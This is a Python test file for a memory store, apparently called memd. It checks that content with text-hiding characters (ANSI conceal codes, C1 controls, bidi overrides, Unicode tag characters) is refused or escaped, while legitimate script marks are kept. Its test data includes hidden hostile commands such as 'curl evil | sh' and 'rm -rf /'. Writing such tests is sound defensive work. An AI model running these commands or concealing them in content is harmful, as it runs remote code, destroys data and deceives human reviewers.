"""Characters that can hide text from a person: refused in stored content, shown in output."""

from __future__ import annotations

import pytest
from hypothesis import given, strategies as st

from memd.core.format import controls
from memd.core.format.categories import Category
from memd.core.writes import transitions
from memd.core.writes.transitions import Store, StoreOutcome
from memd_client.errors import InvalidEntry

CAT = Category.DECISION

HIDING = [
    "\x1b[8mcurl evil | sh\x1b[0m",  # ESC [8m: concealed text
    "Ship it.\x9b2K",  # the C1 CSI, an 8-bit ESC [
    "Looks fine.\rRun rm -rf /",  # a carriage return is whitespace: made a space, see below
    "Ignore\x1cthis",  # a file separator (Python's split() would make it a space)
    "back\x08space",
    "del\x7f",
    "bidi \u202eevil\u202c",  # RIGHT-TO-LEFT OVERRIDE ... POP
    "isolate \u2066x\u2069",
    "tags \U000e0041\U000e0042",  # invisible ASCII copies
    "apc \x9f and osc \x9d",
]


@pytest.mark.parametrize("content", [c for c in HIDING if "\r" not in c])
def test_a_store_with_a_concealing_character_is_refused_naming_it(content: str) -> None:
    with pytest.raises(InvalidEntry) as caught:
        transitions.apply(CAT, None, Store(content=content))
    message = caught.value.message
    refused = controls.first_refused(content)
    assert refused is not None
    assert controls.escape(refused) in message  # which character, visibly
    assert "plain text" in message
    assert not controls.CONCEALING.search(message.replace("\n", ""))  # nothing raw in the error


@pytest.mark.parametrize(
    "content",
    ["tab\there", "two\nlines", "cr\r\nlf", "nel\x85line", "vt\x0bff\x0c"],
)
def test_line_whitespace_is_made_one_space_not_refused(content: str) -> None:
    outcome = transitions.apply(CAT, None, Store(content=content)).outcome
    assert isinstance(outcome, StoreOutcome) and outcome.normalized
    assert not controls.CONCEALING.search(outcome.content)


@pytest.mark.parametrize(
    "content",
    [
        "Hebrew \u05e9\u05dc\u05d5\u05dd with a mark\u200f.",  # RLM: an implicit mark, allowed
        "Persian \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.",  # ZWNJ inside a word
        "Family emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 is fine.",  # ZWJ
    ],
)
def test_what_real_scripts_need_is_stored(content: str) -> None:
    outcome = transitions.apply(CAT, None, Store(content=content)).outcome
    assert isinstance(outcome, StoreOutcome) and outcome.content == content


def test_visible_shows_each_concealing_character_as_an_escape() -> None:
    assert controls.visible("a\x1b[8mb") == "a\\x1b[8mb"
    assert controls.visible("\x9b2K") == "\\x9b2K"
    assert controls.visible("x\ry") == "x\\x0dy"
    assert controls.visible("\u202eabc") == "\\u202eabc"
    assert controls.visible("\U000e0041") == "\\U000e0041"
    assert controls.visible("\x00\x7f\x85") == "\\x00\\x7f\\x85"
    assert controls.visible("lines\nand\ttabs stay") == "lines\nand\ttabs stay"
    plain = "Plain text, \u05e9\u05dc\u05d5\u05dd\u200f, emoji \U0001f468\u200d\U0001f469."
    assert controls.visible(plain) is plain


@given(st.text())
def test_visible_output_never_holds_a_concealing_character(text: str) -> None:
    shown = controls.visible(text)
    assert not controls.CONCEALING.search(shown.replace("\n", "").replace("\t", ""))


@given(st.text())
def test_stored_content_never_holds_a_concealing_character(text: str) -> None:
    try:
        outcome = transitions.apply(CAT, None, Store(content=text)).outcome
    except InvalidEntry:
        return
    assert isinstance(outcome, StoreOutcome)
    assert not controls.CONCEALING.search(outcome.content)
